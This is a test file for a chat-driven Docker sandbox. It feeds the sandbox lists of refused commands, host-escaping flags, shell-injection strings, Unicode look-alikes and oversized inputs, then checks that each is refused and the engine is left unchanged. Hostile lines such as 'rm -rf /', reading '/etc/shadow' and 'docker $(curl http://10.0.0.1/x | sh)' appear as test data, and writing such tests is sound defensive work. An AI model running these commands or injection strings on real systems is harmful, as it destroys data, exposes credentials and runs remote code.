import { afterAll, beforeAll, describe, expect } from 'vitest';
import { createCardStore } from '../../src/knowledge/card-store.ts';
import { loadCards } from '../../src/knowledge/load-cards.ts';
import type { Reply } from '../../src/reply.ts';
import { createCommandHandler } from '../../src/sandbox/create-command-handler.ts';
import { createDockerSandbox } from '../../src/sandbox/docker-sandbox.ts';
import { engineHost, itWithEngine } from '../engine-context.ts';
import { engineFingerprint } from '../helpers.ts';

/** Every docker command that changes, exports, streams or phones out, as people type them. */
const REFUSED_COMMANDS = [
  'run hello-world', 'docker run -d --network none busybox sleep 1', 'container run -it centos', 'create busybox', 'container create busybox',
  'start fresh', 'stop web', 'restart web', 'kill web', 'kill -s KILL web', 'pause web', 'unpause web', 'rm web', 'rm -f web',
  'container rm -f web', 'container remove web', 'rename web x', 'update --memory 1g web', 'commit web evil/img', 'exec web sh',
  'exec -it web rm -rf /', 'attach web', 'wait web', 'cp web:/etc/passwd /tmp/', 'cp /etc/shadow web:/', 'export web',
  'container export -o /tmp/x web', 'diff web', 'build -t x .', 'image build .', 'rmi hello-world', 'image rm -f hello-world',
  'image prune -a', 'tag hello-world evil:latest', 'import http://x/img.tar', 'load -i /tmp/x.tar', 'save -o /tmp/x hello-world',
  'image save hello-world', 'pull ubuntu:14.04', 'push fishboneapps/hello-world', 'search ubuntu', 'login -u me', 'logout',
  'network create n', 'network rm none', 'network prune', 'network connect none web', 'network disconnect none web',
  'volume create v', 'volume rm v', 'volume prune -f', 'system prune -af --volumes', 'system events', 'events',
  'swarm init', 'swarm leave --force', 'node ls', 'service create busybox', 'stack deploy x', 'secret create s -', 'config ls',
  'plugin install x', 'context use evil', 'context create evil --docker host=tcp://10.0.0.1:2375', 'builder prune -af',
  'buildx build .', 'compose up -d', 'compose down', 'manifest push x', 'trust sign x', 'checkpoint create web c', 'init',
  'system dial-stdio', 'container frobnicate',
];

/** Flags that would point docker elsewhere, or that the sandbox does not take. */
const ESCAPING_FLAGS = [
  'docker -H tcp://10.0.0.1:2375 ps', 'docker --host=unix:///var/run/docker.sock ps', 'docker --context evil ps', 'docker -c evil ps',
  'docker --config /tmp/evil ps', 'docker --tlsverify --tlscacert=/x ps', 'docker --tlscert /x images', 'docker -D ps',
  'docker --log-level debug ps', 'ps -H tcp://10.0.0.1:2375', 'images --host x', 'ps --context=evil', 'ps --format "{{json .}}"',
  'inspect -f "{{.Config.Env}}" web', 'logs -f web', 'logs --follow web', 'stats -a', 'top web e', 'top web -eo pid,environ', 'version --format x',
  'ps --filter before=web', 'history -H hello-world', 'docker --version',
];

/** Shell syntax in every spelling. */
const SHELL = [
  'docker ps; docker rm -f web', 'docker ps && docker rm -f web', 'docker ps || docker kill web', 'docker ps | sh',
  'docker ps & docker rm web', 'docker ps > /etc/passwd', 'docker ps < /etc/passwd', 'docker ps >> /tmp/x', 'docker ps 2>&1',
  'docker ps $(docker rm -f web)', 'docker logs $(docker rm -f web)', 'docker ps `docker rm -f web`', 'docker ps -f "name=$(rm -rf /)"',
  'docker ps -f name=${HOME}', 'docker ps -f name=$HOME', 'docker ps\ndocker rm -f web', 'docker ps\r\ndocker rm web',
  'docker ps\u0000 docker rm web', 'docker rm $(docker ps -aq); docker ps', 'docker rm $(docker ps -aq) && echo', 'docker rm $(rm -rf /)',
  'docker rm $(docker ps -aq $(id))', 'docker (ps)', 'docker ps &amp;&amp; docker rm web', 'docker ps &gt; /tmp/x',
  'docker; rm -rf /', 'docker $(curl http://10.0.0.1/x | sh)',
];

/** Unicode look-alikes and invisible characters around refused commands. */
const LOOKALIKES = [
  'ｄｏｃｋｅｒ　ｒｍ　ｗｅｂ', 'ｒｕｎ ｈｅｌｌｏ-ｗｏｒｌｄ', 'docker ｒｍ -f web', 'dоcker rm web', 'docker rм web', 'docker kіll web',
  'd\u200bocker r\u200bm web', '\ufeffdocker rm web', 'docker rm\u00a0web', 'docker ps；docker rm web', 'docker ps ｜ sh',
  'docker ps ＆＆ docker rm web', 'docker ps \uff04(docker rm web)', 'docker ps —host tcp://10.0.0.1:2375', '`docker rm -f web`',
  '<@U0DOCKHAND> docker rm -f web',
];

const HUGE = [`docker ps ${'-a '.repeat(35_000)}`, `docker rm ${'x'.repeat(100_000)}`, `docker ps -f "name=${'y'.repeat(100_000)}"`];

const DRY_RUNS = [
  'docker rm $(docker container ls -f "status=exited" -q)', 'docker rm $(docker container ls -aq)', 'docker rm $(docker ps -aq)',
  'docker rm -f $(docker ps -aq)', 'docker container prune', 'docker container prune -f', 'docker rmi $(docker images -q)',
  'docker image prune', 'docker rmi `docker images -q`',
];

const HOSTILE = [...REFUSED_COMMANDS, ...ESCAPING_FLAGS, ...SHELL, ...LOOKALIKES, ...HUGE];

describe('hostile input on the real engine', () => {
  const host = engineHost();
  let before = '';
  const replies = new Map<string, Reply | null>();

  beforeAll(async () => {
    if (!host) return;
    before = await engineFingerprint(host);
    const sandbox = createDockerSandbox({ host, tls: null, timeoutMs: 10_000 });
    const handler = createCommandHandler({ sandbox, cards: createCardStore(loadCards()) });
    for (const text of [...HOSTILE, ...DRY_RUNS]) replies.set(text, await handler.handle({ text, surface: 'cli' }));
  });

  itWithEngine(`has at least 80 hostile inputs (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(80);
    expect(new Set(HOSTILE).size).toBe(HOSTILE.length);
  });

  itWithEngine.each(HOSTILE.map((t) => [t.length > 80 ? `${t.slice(0, 60)}… (${t.length} chars)` : JSON.stringify(t), t]))(
    'refuses %s with a clear message',
    (_, text) => {
      const reply = replies.get(text);
      expect(reply?.kind).toBe('refused');
      if (reply?.kind !== 'refused') return;
      expect(reply.reason.length).toBeGreaterThan(20);
      expect(reply.reason.length).toBeLessThan(400);
      expect(reply.reason).not.toMatch(/undefined|\[object|NaN/);
    },
  );

  itWithEngine.each(DRY_RUNS)('%j gets a dry run instead', (text) => {
    const reply = replies.get(text);
    expect(reply?.kind).toBe('dry-run');
  });

  itWithEngine('leaves the engine exactly as it was (containers with state, images, networks, volumes)', async () => {
    expect(await engineFingerprint(host!)).toBe(before);
  });

  afterAll(() => replies.clear());
});
